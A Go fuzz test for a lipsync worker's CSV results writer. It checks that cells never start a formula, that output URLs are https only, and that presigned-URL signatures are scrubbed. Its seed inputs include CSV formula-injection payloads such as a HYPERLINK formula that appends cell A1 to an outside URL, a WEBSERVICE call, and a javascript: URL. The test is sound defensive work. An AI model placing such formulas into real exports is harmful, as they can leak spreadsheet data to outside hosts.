package main

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/chamelaion-lipsync/worker/lipsync"
)

// FuzzWriteResults: whatever a job's reference_id, status, output URL and
// error hold, the results file parses back as one header and one row of
// four cells, no cell starts a formula, the output_url cell is empty or an
// https URL, and no signature in the error survives.
func FuzzWriteResults(f *testing.F) {
	f.Add("ep-1", "completed", "https://storage.chamelaion.com/output/1.mp4", "")
	f.Add(`=HYPERLINK("https://x/?"&A1)`, "completed", `=WEBSERVICE("https://x")`, "")
	f.Add("+1", "escalated", "", "JobFailed: cannot fetch https://cdn/v.mp4?X-Amz-Signature=SIGSECRET")
	f.Add("\t@x", "escalated", "javascript:alert(1)", "-2+3\r\n=1")
	f.Add(" -x,\"y\"", "not_submitted", "https://u:p@h/x", "a\nb")
	f.Fuzz(func(t *testing.T, ref, status, output, errText string) {
		var buf bytes.Buffer
		if err := writeResultsTo(&buf, []lipsync.JobOutcome{{ReferenceID: ref, Status: status, OutputURL: output, Error: errText}}); err != nil {
			return // csv refuses what it cannot write (invalid UTF-8 is written as is, so this is rare)
		}
		r := csv.NewReader(&buf)
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("the file does not parse back: %v\n%q", err, buf.String())
		}
		if len(rows) != 2 || len(rows[1]) != 4 {
			t.Fatalf("want a header and one row of 4 cells, got %q", rows)
		}
		for _, cell := range rows[1] {
			if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune(formulaStarts, rune(c[0])) {
				t.Fatalf("cell starts a formula: %q", cell)
			}
		}
		if out := rows[1][2]; out != "" && (!strings.HasPrefix(strings.ToLower(out), "https://") || !isHTTPSURL(out)) {
			t.Fatalf("output_url is not an https URL: %q", out)
		}
		if strings.Contains(errText, "X-Amz-Signature=SIGSECRET") && strings.Contains(rows[1][3], "SIGSECRET") {
			t.Fatalf("signature survived: %q", rows[1][3])
		}
	})
}
